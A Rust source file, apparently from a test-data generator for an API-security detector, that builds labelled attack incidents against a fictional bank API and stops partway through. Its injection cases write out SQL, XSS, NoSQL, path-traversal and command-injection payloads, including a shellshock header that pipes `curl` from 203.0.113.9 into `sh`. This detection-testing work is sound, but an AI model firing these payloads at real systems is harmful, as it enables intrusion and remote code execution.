//! The labelled incidents of the attack capture: at least two of every alert kind, each shaped
//! like the real thing and otherwise ordinary (real identities, the load balancer, browser or
//! app user agents, keep-alive connections).
//!
//! [`plan`] lays the incidents one after another over the hour with a fixed quiet gap, so they
//! never overlap in time, and returns their sessions (sorted by start), their labels and the
//! error windows the benign background must honour.
//!
//! Invariants: incidents never overlap; every label lies inside the first hour after `start`;
//! each label's `start`/`end` are its first and last planned request (plus a second of slack for
//! connection setup and server time at the end).

use super::bank::{lb_addr, pct, server_addr, Bank, Fault, Op, Role, User, FAR_AWAY};
use super::{request, response, Exchange, Label, Session, HOST};
use crate::alert::AlertKind;
use crate::common::{Duration, Timestamp};
use crate::inventory::sensitive::{luhn, luhn_sum};
use crate::synth::rng::Rng;
use crate::synth::tcp::Impairments;
use serde_json::{json, Value};
use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

/// Quiet time between two incidents.
const GAP_SECS: u64 = 50;
/// Time from the capture start to the first incident.
const LEAD_SECS: u64 = 30;

/// What the attack capture adds to the benign background.
#[derive(Clone, Debug, Default)]
pub struct Plan {
    pub sessions: Vec<Session>,
    pub labels: Vec<Label>,
    pub faults: Vec<Fault>,
}

/// One request of an incident at a planned time.
struct Call {
    at: Timestamp,
    request: Vec<u8>,
    response: Vec<u8>,
}

fn ms(n: u64) -> Duration {
    Duration::from_nanos(n * 1_000_000)
}

fn secs(n: u64) -> Duration {
    Duration::from_secs(n)
}

struct Ctx<'a> {
    bank: &'a Bank,
    r: Rng,
    plan: Plan,
    counts: HashMap<AlertKind, u32>,
    /// Users already given a part, so every incident has its own actor.
    used: Vec<u32>,
}

/// What a label says besides its times.
struct Meta<'a> {
    kind: AlertKind,
    client: Option<IpAddr>,
    method: Option<&'a str>,
    route: Option<&'a str>,
    description: String,
}

impl<'a> Ctx<'a> {
    /// The next unused user with `role` whose home is not geolocatable (ids from `from`).
    fn actor(&mut self, role: Role, from: u32) -> &'a User {
        let bank = self.bank;
        let u = bank
            .users
            .iter()
            .skip(from as usize)
            .chain(bank.users.iter())
            .find(|u| u.role == role && u.id % 25 != 0 && !self.used.contains(&u.id))
            .unwrap_or(&bank.users[1]);
        self.used.push(u.id);
        u
    }

    /// A request by user `u` from address `from` through the load balancer.
    fn user_req(
        &self,
        u: &User,
        from: IpAddr,
        at: Timestamp,
        line: (&str, &str),
        body: &[u8],
    ) -> Vec<u8> {
        let mut h = self.bank.user_headers(u, at, from);
        if !body.is_empty() {
            h.push(("Content-Type".into(), "application/json".into()));
        }
        let h: Vec<(&str, &str)> = h.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        request(line.0, line.1, &h, body)
    }

    /// Groups calls into keep-alive connections of at most `per_conn` requests from `client`
    /// (the load balancer when `direct` is `None`).
    fn connections(&mut self, calls: Vec<Call>, per_conn: usize, direct: Option<SocketAddr>) {
        let mut calls = calls.into_iter().peekable();
        while calls.peek().is_some() {
            let chunk: Vec<Call> = calls.by_ref().take(per_conn.max(1)).collect();
            let Some(first) = chunk.first() else { break };
            let start = Timestamp::from_nanos(first.at.as_nanos().saturating_sub(5_000_000));
            let mut prev = start;
            let mut exchanges = Vec::with_capacity(chunk.len());
            for c in chunk {
                exchanges.push(Exchange {
                    think: c.at.saturating_since(prev),
                    work: ms(self.r.range(1, 4)),
                    request: c.request,
                    response: c.response,
                });
                prev = c.at;
            }
            let (client, server) = match direct {
                Some(server) => (
                    SocketAddr::new(IpAddr::V4(Ipv4Addr::UNSPECIFIED), 0),
                    server,
                ),
                None => (
                    SocketAddr::new(lb_addr(&mut self.r), 0),
                    server_addr(&mut self.r),
                ),
            };
            self.plan.sessions.push(Session {
                start,
                client,
                server,
                exchanges,
                impair: Impairments::default(),
                mss: None,
                attack: true,
            });
        }
    }

    fn label(&mut self, start: Timestamp, end: Timestamp, m: Meta<'_>) -> Timestamp {
        let n = self.counts.entry(m.kind).or_insert(0);
        *n += 1;
        let end = end.add(secs(1));
        self.plan.labels.push(Label {
            id: format!("{}-{n}", m.kind.name()),
            kind: m.kind,
            start,
            end,
            client_ip: m.client,
            host: HOST.into(),
            method: m.method.map(String::from),
            route: m.route.map(String::from),
            description: m.description,
        });
        end
    }

    /// Labels the calls' time span and turns them into connections.
    fn finish(&mut self, calls: Vec<Call>, per_conn: usize, m: Meta<'_>) -> Timestamp {
        let start = calls.first().map_or(Timestamp::ZERO, |c| c.at);
        let end = calls.last().map_or(start, |c| c.at);
        self.connections(calls, per_conn, None);
        self.label(start, end, m)
    }

    fn json_resp(status: u16, v: &Value, at: Timestamp) -> Vec<u8> {
        response(status, v.to_string().as_bytes(), at.secs())
    }

    fn bola(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let a = self.actor(Role::Customer, 400 + v * 500);
        let n = 34 + 6 * v as u64;
        let mut calls = Vec::new();
        let mut at = t;
        let e = self.bank.benign(&mut self.r, a, Op::Accounts, at);
        calls.push(Call {
            at,
            request: self.user_req(a, a.home, at, ("GET", "/api/v1/accounts"), &[]),
            response: e.response,
        });
        let mut victims: Vec<u32> = Vec::new();
        while victims.len() < n as usize {
            let id = self.r.below(u64::from(super::bank::USERS)) as u32;
            if id != a.id && !victims.contains(&id) {
                victims.push(id);
            }
        }
        for id in victims {
            at = at.add(ms(self.r.range(900, 1_400)));
            let Some(victim) = self.bank.user(id) else {
                continue;
            };
            let acct = victim.accounts.first().copied().unwrap_or(0);
            let (target, body) = if v == 0 {
                (
                    format!("/api/v1/accounts/{acct}"),
                    self.bank.account_json(victim, acct),
                )
            } else {
                (
                    format!("/api/v1/accounts/{acct}/transactions?page=1&limit=20"),
                    self.bank.transactions_json(&mut self.r, acct, 1, 20),
                )
            };
            calls.push(Call {
                at,
                request: self.user_req(a, a.home, at, ("GET", &target), &[]),
                response: Self::json_resp(200, &body, at),
            });
        }
        let route = if v == 0 {
            Op::Account.route()
        } else {
            Op::Transactions.route()
        };
        self.finish(calls, 25, Meta {
            kind: AlertKind::Bola,
            client: Some(a.home),
            method: Some("GET"),
            route: Some(route),
            description: format!("customer u-{} reads {n} other users' accounts one after another (~1.1 s apart), all answered 200", a.id),
        })
    }

    fn bruteforce(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let fail =
            json!({"error": "invalid_credentials", "message": "Invalid username or password"});
        let mut calls = Vec::new();
        if v == 0 {
            let ip = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 66));
            let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
            for i in 0..60u64 {
                let at = t.add(ms(i * 800 + self.r.below(200)));
                let victim = &self.bank.users[self.r.below(u64::from(super::bank::USERS)) as usize];
                let body = json!({"username": victim.username, "password": format!("Spring{}!", 2020 + i % 6)}).to_string();
                let xff = ip.to_string();
                let h = [
                    ("User-Agent", ua),
                    ("Accept", "application/json"),
                    ("Content-Type", "application/json"),
                    ("X-Forwarded-For", xff.as_str()),
                ];
                calls.push(Call {
                    at,
                    request: request("POST", Op::Login.route(), &h, body.as_bytes()),
                    response: Self::json_resp(401, &fail, at),
                });
            }
            return self.finish(
                calls,
                20,
                Meta {
                    kind: AlertKind::AuthBruteforce,
                    client: Some(ip),
                    method: Some("POST"),
                    route: Some(Op::Login.route()),
                    description:
                        "one client sprays 60 failed logins over 60 usernames in 48 s (401 each)"
                            .into(),
                },
            );
        }
        let victim = self.actor(Role::Customer, 2_100);
        let mut at = t;
        let mut last = t;
        for k in 0..45u32 {
            let ip = IpAddr::V4(Ipv4Addr::new(
                100,
                96 + (k / 200) as u8,
                (k * 37 % 250) as u8,
                (k % 250) as u8 + 1,
            ));
            let xff = ip.to_string();
            let mut conn = Vec::new();
            for j in 0..2u64 {
                let when = at.add(ms(j * 1_500));
                let body = json!({"username": victim.username, "password": format!("{}{}", ["Passw0rd", "Welcome1", "Qwerty!"][(k as usize + j as usize) % 3], k)}).to_string();
                let h = [
                    ("User-Agent", "BankApp/7.3.0 (iPhone; iOS 18.1)"),
                    ("Content-Type", "application/json"),
                    ("X-Forwarded-For", xff.as_str()),
                ];
                conn.push(Call {
                    at: when,
                    request: request("POST", Op::Login.route(), &h, body.as_bytes()),
                    response: Self::json_resp(401, &fail, when),
                });
            }
            self.connections(conn, 2, None);
            last = at;
            at = at.add(ms(self.r.range(900, 1_200)));
        }
        drop(calls);
        let end = last.add(ms(1_500));
        self.label(
            t,
            end,
            Meta {
                kind: AlertKind::AuthBruteforce,
                client: None,
                method: Some("POST"),
                route: Some(Op::Login.route()),
                description: format!(
                    "distributed stuffing: 45 addresses, 2 failed logins each, all for username {}",
                    victim.username
                ),
            },
        )
    }

    fn travel(&mut self, t: Timestamp, v: u32) -> Timestamp {
        // Users 25 and 50 live at London addresses of the test database (GEO_HOMES 1 and 2).
        let Some(u) = self.bank.user(25 * (v + 1)) else {
            return t;
        };
        let far = IpAddr::V4(FAR_AWAY[v as usize % FAR_AWAY.len()]);
        let mut calls = Vec::new();
        for (i, from) in [(0u64, u.home), (45, far)] {
            for (j, op) in [Op::Accounts, Op::Account, Op::Transactions]
                .into_iter()
                .enumerate()
            {
                let at = t.add(secs(i)).add(ms(j as u64 * 2_500));
                let mut e = self.bank.benign(&mut self.r, u, op, at);
                let target =
                    String::from_utf8_lossy(e.request.split(|b| *b == b' ').nth(1).unwrap_or(b"/"))
                        .into_owned();
                e.request = self.user_req(u, from, at, (op.method(), &target), &[]);
                calls.push((
                    from,
                    Call {
                        at,
                        request: e.request,
                        response: e.response,
                    },
                ));
            }
        }
        let start = t;
        let end = calls.last().map_or(t, |c| c.1.at);
        let (home, away): (Vec<_>, Vec<_>) = calls.into_iter().partition(|(f, _)| *f == u.home);
        self.connections(home.into_iter().map(|c| c.1).collect(), 10, None);
        self.connections(away.into_iter().map(|c| c.1).collect(), 10, None);
        self.label(
            start,
            end,
            Meta {
                kind: AlertKind::ImpossibleTravel,
                client: Some(far),
                method: None,
                route: None,
                description: format!(
                    "u-{}'s token used from London ({}) then 45 s later from {far} ({})",
                    u.id,
                    u.home,
                    if v == 0 { "San Diego" } else { "Changchun" }
                ),
            },
        )
    }

    fn mass_assignment(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let u = self.actor(Role::Customer, 700 + v * 300);
        let mut calls = Vec::new();
        for i in 0..3u64 {
            let at = t.add(secs(i * 6));
            let (line, body, status, resp) = if v == 0 {
                let target = format!("/api/v1/users/u-{}/profile", u.id);
                let mut b =
                    json!({"name": u.name, "email": u.email, "phone": u.phone, "role": "admin"});
                if i > 0 {
                    b["isAdmin"] = json!(true);
                }
                (("PUT", target), b, 200, self.bank.profile_json(u))
            } else {
                let from = u.accounts.first().copied().unwrap_or(0);
                let b = json!({"from": from, "to": 10_000_000 + self.r.below(30_000), "amount": 2_500.0, "currency": "EUR", "memo": "Invoice", "fee": 0, "approved": true});
                (
                    ("POST", "/api/v1/transfers".to_string()),
                    b,
                    201,
                    json!({"id": format!("tr_{:x}", self.r.next_u64() >> 20), "status": "approved", "from": from, "amount": 2_500.0}),
                )
            };
            calls.push(Call {
                at,
                request: self.user_req(
                    u,
                    u.home,
                    at,
                    (line.0, &line.1),
                    body.to_string().as_bytes(),
                ),
                response: Self::json_resp(status, &resp, at),
            });
        }
        let (method, route, what) = if v == 0 {
            (
                "PUT",
                Op::ProfileUpdate.route(),
                "PUT own profile adding `role: admin` and `isAdmin: true`",
            )
        } else {
            (
                "POST",
                Op::Transfer.route(),
                "transfers carrying unseen fields `fee: 0` and `approved: true`",
            )
        };
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::MassAssignment,
                client: Some(u.home),
                method: Some(method),
                route: Some(route),
                description: format!("u-{}: 3 requests, {what}, accepted", u.id),
            },
        )
    }

    fn excessive(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let role = if v == 0 {
            Role::Support
        } else {
            Role::Customer
        };
        let u = self.actor(role, 900 + v * 400);
        let mut calls = Vec::new();
        for i in 0..3u64 {
            let at = t.add(secs(i * 5));
            let (target, body) = if v == 0 {
                let month = format!("2025-{:02}", 10 + i);
                let b = self.bank.export_json(&mut self.r, &month, 700);
                (format!("/api/v1/reports/export?month={month}"), b)
            } else {
                let mut p = self.bank.profile_json(u);
                p["passwordHash"] = json!(format!(
                    "$2b$12${}",
                    "Qm9ndXNIYXNoVmFsdWVGb3JUZXN0aW5nT25seQ"
                ));
                p["mfaSecret"] = json!("JBSWY3DPEHPK3PXP");
                p["internalRiskScore"] = json!(0.12);
                p["kycDocuments"] = json!(["passport-scan.pdf", "utility-bill.pdf"]);
                (format!("/api/v1/users/u-{}/profile", u.id), p)
            };
            calls.push(Call {
                at,
                request: self.user_req(u, u.home, at, ("GET", &target), &[]),
                response: Self::json_resp(200, &body, at),
            });
        }
        let (route, what) = if v == 0 {
            (
                Op::Export.route(),
                "support exports of 700 rows (normal 40-60, ~13x the bytes)",
            )
        } else {
            (Op::Profile.route(), "own profile answered with never-seen fields passwordHash, mfaSecret, internalRiskScore, kycDocuments")
        };
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::ExcessiveData,
                client: Some(u.home),
                method: Some("GET"),
                route: Some(route),
                description: format!("u-{}: 3 requests, {what}", u.id),
            },
        )
    }

    fn sensitive(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let u = self.actor(Role::Customer, 1_300 + v * 300);
        let acct = u.accounts.first().copied().unwrap_or(0);
        let mut calls = Vec::new();
        for i in 0..3u64 {
            let at = t.add(secs(i * 5));
            let (target, body) = if v == 0 {
                let mut a = self.bank.account_json(u, acct);
                a["cardNumber"] = json!(luhn_pan(&mut self.r, "4532"));
                a["holderSsn"] = json!(format!(
                    "{:03}-{:02}-{:04}",
                    self.r.range(101, 665),
                    self.r.range(10, 99),
                    self.r.range(1_000, 9_999)
                ));
                (format!("/api/v1/accounts/{acct}"), a)
            } else {
                let mut b = self.bank.transactions_json(&mut self.r, acct, 1, 10);
                b["debug"] = json!({"signingKey": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq3fKx0Z2i4mQ1t0VhR9pXl1TQ8c2F2R7d1bW9FqkM2oP4s\n-----END RSA PRIVATE KEY-----", "card": luhn_pan(&mut self.r, "5425")});
                (
                    format!("/api/v1/accounts/{acct}/transactions?page=1&limit=10"),
                    b,
                )
            };
            calls.push(Call {
                at,
                request: self.user_req(u, u.home, at, ("GET", &target), &[]),
                response: Self::json_resp(200, &body, at),
            });
        }
        let (route, what) = if v == 0 {
            (
                Op::Account.route(),
                "own account answered with a full Luhn-valid card number and a US SSN",
            )
        } else {
            (
                Op::Transactions.route(),
                "transactions answered with a PEM RSA private key and a full card number",
            )
        };
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::SensitiveData,
                client: Some(u.home),
                method: Some("GET"),
                route: Some(route),
                description: format!("u-{}: 3 requests, {what}", u.id),
            },
        )
    }

    fn volume(&mut self, t: Timestamp, v: u32) -> Timestamp {
        if v == 0 {
            let p = &self.bank.partners[5];
            let mut calls = Vec::new();
            for i in 0..720u64 {
                let at = t.add(ms(i * 125));
                let e = self.bank.partner_poll(&mut self.r, p, at);
                calls.push(Call {
                    at,
                    request: e.request,
                    response: e.response,
                });
            }
            return self.finish(calls, 120, Meta {
                kind: AlertKind::VolumeSpike,
                client: Some(p.ip),
                method: Some("GET"),
                route: Some("/partner/v1/inventory"),
                description: format!("{} polls inventory 8 times a second for 90 s (720 requests; its usual rate is ~5 a minute)", p.name),
            });
        }
        // A price-comparison scraper: 300 addresses, 12 product pages each, over 90 s.
        let mut end = t;
        for k in 0..300u64 {
            let ip = IpAddr::V4(Ipv4Addr::new(
                100,
                120 + (k / 250) as u8,
                (k * 13 % 250) as u8,
                (k % 250) as u8 + 1,
            ));
            let xff = ip.to_string();
            let offset = self.r.below(7_000);
            let mut calls = Vec::new();
            for j in 0..12u64 {
                let at = t.add(ms(offset + j * 7_000 + self.r.below(500)));
                end = end.max(at);
                let cat = super::bank::CATEGORIES[(j % 5) as usize];
                let target = format!("/api/v1/products?category={cat}&page={}", 1 + j / 5);
                let h = [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"), ("Accept", "application/json"), ("X-Forwarded-For", xff.as_str())];
                let body = json!({"category": cat, "page": 1 + j / 5, "items": [{"sku": format!("{cat}-1"), "name": "Classic", "rate": 1.5}]});
                calls.push(Call {
                    at,
                    request: request("GET", &target, &h, &[]),
                    response: Self::json_resp(200, &body, at),
                });
            }
            self.connections(calls, 12, None);
        }
        self.label(t, end, Meta {
            kind: AlertKind::VolumeSpike,
            client: None,
            method: Some("GET"),
            route: Some(Op::Products.route()),
            description: "products endpoint at ~40 extra requests/s for 90 s (about 8x its seasonal rate) from 300 anonymous addresses".into(),
        })
    }

    fn graphql(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let u = self.actor(Role::Customer, 1_500 + v * 200);
        let queries: [Value; 2] = if v == 0 {
            let mut deep = String::from("query Deep { me ");
            for _ in 0..13 {
                deep.push_str("{ accounts { owner ");
            }
            deep.push_str("{ id }");
            for _ in 0..13 {
                deep.push_str(" } }");
            }
            deep.push_str(" }");
            let aliases: Vec<String> = (0..60)
                .map(|i| {
                    format!(
                        "a{i}: account(id: \"{}\") {{ id balance }}",
                        10_000_000 + i * 10
                    )
                })
                .collect();
            [
                json!({"operationName": "Deep", "query": deep}),
                json!({"query": format!("query {{ {} }}", aliases.join(" "))}),
            ]
        } else {
            let batch: Vec<Value> = (0..50).map(|i| json!({"operationName": "AccountSummary", "query": "query AccountSummary($id: ID!) { account(id: $id) { id balance } }", "variables": {"id": (10_000_000 + i * 10).to_string()}})).collect();
            [
                Value::Array(batch),
                json!({"operationName": "IntrospectionQuery", "query": "query IntrospectionQuery { __schema { queryType { name } types { name kind fields { name } } } }"}),
            ]
        };
        let mut calls = Vec::new();
        for (i, q) in queries.iter().enumerate() {
            let at = t.add(secs(i as u64 * 8));
            calls.push(Call {
                at,
                request: self.user_req(
                    u,
                    u.home,
                    at,
                    ("POST", "/graphql"),
                    q.to_string().as_bytes(),
                ),
                response: Self::json_resp(200, &json!({"data": {"ok": true}}), at),
            });
        }
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::GraphqlAbuse,
                client: Some(u.home),
                method: Some("POST"),
                route: Some("/graphql"),
                description: if v == 0 {
                    "a query 14 levels deep, then one with 60 aliases".into()
                } else {
                    "a batch of 50 operations, then an introspection query (__schema)".into()
                },
            },
        )
    }

    fn bfla(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let u = self.actor(Role::Customer, 1_700 + v * 200);
        let mut calls = Vec::new();
        for i in 0..3u64 {
            let at = t.add(secs(i * 4));
            if v == 0 {
                let target = format!("/api/v1/admin/users?page={}", i + 1);
                let body = self.bank.admin_users_json(&mut self.r);
                calls.push(Call {
                    at,
                    request: self.user_req(u, u.home, at, ("GET", &target), &[]),
                    response: Self::json_resp(200, &body, at),
                });
            } else {
                let target = format!("/api/v1/admin/users/u-{}", self.r.below(3_000));
                calls.push(Call {
                    at,
                    request: self.user_req(u, u.home, at, ("DELETE", &target), &[]),
                    response: response(204, &[], at.secs()),
                });
            }
        }
        let (method, route) = if v == 0 {
            ("GET", Op::AdminUsers.route())
        } else {
            ("DELETE", Op::AdminDelete.route())
        };
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::Bfla,
                client: Some(u.home),
                method: Some(method),
                route: Some(route),
                description: format!(
                    "customer-role token u-{} calls {method} {route} 3 times and succeeds",
                    u.id
                ),
            },
        )
    }

    fn injection(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let role = if v == 2 {
            Role::Support
        } else {
            Role::Customer
        };
        let u = self.actor(role, 1_900 + v * 150);
        let mut calls = Vec::new();
        let (method, route, what) = match v {
            0 => {
                for (i, q) in [
                    "' OR '1'='1' --",
                    "1 UNION SELECT username, password FROM users--",
                    "<script>alert(document.cookie)</script>",
                    "{{7*7}}",
                ]
                .iter()
                .enumerate()
                {
                    let at = t.add(secs(i as u64 * 5));
                    let target = format!("/api/v1/search?q={}", pct(q));
                    let status = if i == 1 { 500 } else { 200 };
                    calls.push(Call {
                        at,
                        request: self.user_req(u, u.home, at, ("GET", &target), &[]),
                        response: Self::json_resp(status, &json!({"q": q, "results": []}), at),
                    });
                }
                (
                    "GET",
                    Op::Search.route(),
                    "search q: SQL tautology, UNION SELECT, <script> XSS, {{7*7}} template",
                )
            }
            1 => {
                let bodies = [
                    json!({"username": {"$ne": null}, "password": {"$ne": null}}),
                    json!({"username": "admin'--", "password": "x"}),
                    json!({"username": {"$gt": ""}, "password": {"$regex": ".*"}}),
                ];
                for (i, b) in bodies.iter().enumerate() {
                    let at = t.add(secs(i as u64 * 5));
                    let xff = u.home.to_string();
                    let h = [
                        ("User-Agent", u.user_agent),
                        ("Content-Type", "application/json"),
                        ("X-Forwarded-For", xff.as_str()),
                    ];
                    calls.push(Call { at, request: request("POST", Op::Login.route(), &h, b.to_string().as_bytes()), response: Self::json_resp(401, &json!({"error": "invalid_credentials", "message": "Invalid username or password"}), at) });
                }
                (
                    "POST",
                    Op::Login.route(),
                    "login JSON body: NoSQL {\"$ne\": null}, SQL comment, $regex",
                )
            }
            _ => {
                let cases: [(&str, Option<&str>); 4] = [
                    ("../../../../etc/passwd", None),
                    ("2025-01;cat /etc/passwd", None),
                    ("$(id)", None),
                    (
                        "2025-02",
                        Some("() { :; }; /bin/bash -c 'curl http://203.0.113.9/x | sh'"),
                    ),
                ];
                for (i, (m, ua)) in cases.iter().enumerate() {
                    let at = t.add(secs(i as u64 * 5));
                    let target = format!("/api/v1/reports/export?month={}", pct(m));
                    let mut h = self.bank.user_headers(u, at, u.home);
                    if let Some(ua) = ua {
                        h[0].1 = (*ua).to_string();
                    }
                    let h: Vec<(&str, &str)> =
                        h.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
                    calls.push(Call {
                        at,
                        request: request("GET", &target, &h, &[]),
                        response: Self::json_resp(400, &json!({"error": "bad_month"}), at),
                    });
                }
                ("GET", Op::Export.route(), "export month: path traversal, `;cat`, `$(id)`, and a shellshock User-Agent header")
            }
        };
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::Injection,
                client: Some(u.home),
                method: Some(method),
                route: Some(route),
                description: format!("u-{}: {what}", u.id),
            },
        )
    }

    fn parameter(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let u = self.actor(Role::Customer, 2_300 + v * 200);
        let acct = u.accounts.first().copied().unwrap_or(0);
        let mut calls = Vec::new();
        let bad = json!({"error": "validation_failed"});
        if v == 0 {
            let mut long = vec![0u8; 1_500];
            self.r.fill(&mut long);
            let long: String = long.iter().map(|b| format!("{b:02x}")).collect();
            let targets = [
                format!("/api/v1/accounts/{acct}/transactions?page={long}&limit=20"),
                format!("/api/v1/accounts/{acct}/transactions?page=1&limit=99999999"),
            ];
            for (i, target) in targets.iter().enumerate() {
                let at = t.add(secs(i as u64 * 5));
                calls.push(Call {
                    at,
                    request: self.user_req(u, u.home, at, ("GET", target), &[]),
                    response: Self::json_resp(400, &bad, at),
                });
            }
        } else {
            let bodies = [
                json!({"from": acct, "to": 10_000_120, "amount": {"value": 100, "unit": "cents"}, "currency": "EUR", "memo": "Rent"}),
                json!({"from": acct, "to": 10_000_120, "amount": 12.5, "currency": "DOGECOIN-XXL-PLEASE", "memo": "Rent"}),
            ];
            for (i, b) in bodies.iter().enumerate() {
                let at = t.add(secs(i as u64 * 5));
                calls.push(Call {
                    at,
                    request: self.user_req(
                        u,
                        u.home,
                        at,
                        ("POST", "/api/v1/transfers"),
                        b.to_string().as_bytes(),
                    ),
                    response: Self::json_resp(422, &bad, at),
                });
            }
        }
        let (method, route, what) = if v == 0 {
            (
                "GET",
                Op::Transactions.route(),
                "transactions page as a 3000-character string, then limit=99999999",
            )
        } else {
            (
                "POST",
                Op::Transfer.route(),
                "transfer amount as an object, then currency DOGECOIN-XXL-PLEASE",
            )
        };
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::ParameterAnomaly,
                client: Some(u.home),
                method: Some(method),
                route: Some(route),
                description: format!("u-{}: {what}", u.id),
            },
        )
    }

    fn shadow(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let u = self.actor(Role::Customer, 2_500 + v * 100);
        let acct = u.accounts.first().copied().unwrap_or(0);
        let mut calls = Vec::new();
        for i in 0..4u64 {
            let at = t.add(secs(i * 4));
            let (target, body) = if v == 0 {
                (
                    format!(
                        "/api/v1/internal/debug/config?section={}",
                        ["db", "cache", "auth", "flags"][i as usize]
                    ),
                    json!({"env": "prod", "build": "7f3a9c1", "featureFlags": {"newLedger": true}}),
                )
            } else {
                (
                    format!("/api/v2/accounts/{acct}"),
                    self.bank.account_json(u, acct),
                )
            };
            calls.push(Call {
                at,
                request: self.user_req(u, u.home, at, ("GET", &target), &[]),
                response: Self::json_resp(200, &body, at),
            });
        }
        let route = if v == 0 {
            "/api/v1/internal/debug/config"
        } else {
            "/api/v2/accounts/{accountId}"
        };
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::ShadowEndpoint,
                client: Some(u.home),
                method: Some("GET"),
                route: Some(route),
                description: format!(
                    "u-{}: 4 calls to undocumented, never-trained {route}, answered 200",
                    u.id
                ),
            },
        )
    }

    fn deprecated(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let u = self.actor(Role::Customer, 2_700 + v * 100);
        let mut calls = Vec::new();
        for i in 0..4u64 {
            let at = t.add(secs(i * 4));
            let acct = u
                .accounts
                .get(i as usize % u.accounts.len().max(1))
                .copied()
                .unwrap_or(0);
            let target = format!("/api/v0/accounts/{acct}");
            let mut h = self.bank.user_headers(u, at, u.home);
            h[0].1 = "BankApp/5.0.1 (Android 9; SM-G960F)".into();
            let h: Vec<(&str, &str)> = h.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            calls.push(Call {
                at,
                request: request("GET", &target, &h, &[]),
                response: Self::json_resp(200, &self.bank.account_json(u, acct), at),
            });
        }
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::DeprecatedEndpoint,
                client: Some(u.home),
                method: Some("GET"),
                route: Some("/api/v0/accounts/{accountId}"),
                description: format!(
                    "u-{} on an old app version: 4 calls to the deprecated v0 account route",
                    u.id
                ),
            },
        )
    }

    fn secret(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let mut calls = Vec::new();
        let (client, method, route, what) = match v {
            0 => {
                let p = &self.bank.partners[11];
                let mut key = [0u8; 16];
                self.r.fill(&mut key);
                let key: String = key.iter().map(|b| format!("{b:02x}")).collect();
                for i in 0..3u64 {
                    let at = t.add(secs(i * 4));
                    let e = self.bank.partner_request(
                        &mut self.r,
                        p,
                        at,
                        format!("/partner/v1/inventory?page={}&api_key=sk_live_{key}", i + 1),
                    );
                    calls.push(Call {
                        at,
                        request: e.request,
                        response: e.response,
                    });
                }
                (
                    p.ip,
                    "GET",
                    "/partner/v1/inventory",
                    "partner sends api_key=sk_live_... in the query",
                )
            }
            1 => {
                let u = self.actor(Role::Customer, 2_900);
                for i in 0..3u64 {
                    let at = t.add(secs(i * 4));
                    let target = format!("/api/v1/accounts?access_token={}", self.bank.jwt(u, at));
                    let e = self.bank.benign(&mut self.r, u, Op::Accounts, at);
                    calls.push(Call {
                        at,
                        request: self.user_req(u, u.home, at, ("GET", &target), &[]),
                        response: e.response,
                    });
                }
                (
                    u.home,
                    "GET",
                    Op::Accounts.route(),
                    "the JWT repeated as ?access_token=",
                )
            }
            _ => {
                let u = self.actor(Role::Customer, 3_000);
                for i in 0..2u64 {
                    let at = t.add(secs(i * 4));
                    let target = format!(
                        "/api/v1/auth/login?username={}&password={}",
                        pct(&u.username),
                        pct("Summer2025!")
                    );
                    let xff = u.home.to_string();
                    let h = [
                        ("User-Agent", u.user_agent),
                        ("X-Forwarded-For", xff.as_str()),
                    ];
                    calls.push(Call {
                        at,
                        request: request("GET", &target, &h, &[]),
                        response: Self::json_resp(
                            200,
                            &json!({"token": self.bank.jwt(u, at), "tokenType": "Bearer"}),
                            at,
                        ),
                    });
                }
                (
                    u.home,
                    "GET",
                    Op::Login.route(),
                    "a login form sent as GET with ?password=",
                )
            }
        };
        self.finish(
            calls,
            5,
            Meta {
                kind: AlertKind::SecretInUrl,
                client: Some(client),
                method: Some(method),
                route: Some(route),
                description: what.into(),
            },
        )
    }

    fn cleartext(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let server = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(10, 9, 0, 5)), 80);
        let client = IpAddr::V4(if v == 0 {
            Ipv4Addr::new(172, 16, 5, 23)
        } else {
            Ipv4Addr::new(172, 16, 8, 40)
        });
        let u = self.actor(Role::Customer, 3_100);
        let mut calls = Vec::new();
        for i in 0..3u64 {
            let at = t.add(secs(i * 3));
            if v == 0 {
                let basic = format!(
                    "Basic {}",
                    base64_std(format!("{}:Batch-Job-2026", u.username).as_bytes())
                );
                let h = [
                    ("User-Agent", "curl/8.10.1"),
                    ("Authorization", basic.as_str()),
                ];
                let e = self.bank.benign(&mut self.r, u, Op::Accounts, at);
                calls.push(Call {
                    at,
                    request: request("GET", Op::Accounts.route(), &h, &[]),
                    response: e.response,
                });
            } else {
                let body = json!({"username": u.username, "password": "Blue-482"}).to_string();
                let h = [
                    ("User-Agent", "python-requests/2.32.3"),
                    ("Content-Type", "application/json"),
                ];
                calls.push(Call { at, request: request("POST", Op::Login.route(), &h, body.as_bytes()), response: Self::json_resp(200, &json!({"token": self.bank.jwt(u, at), "tokenType": "Bearer", "expiresIn": 7200}), at) });
            }
        }
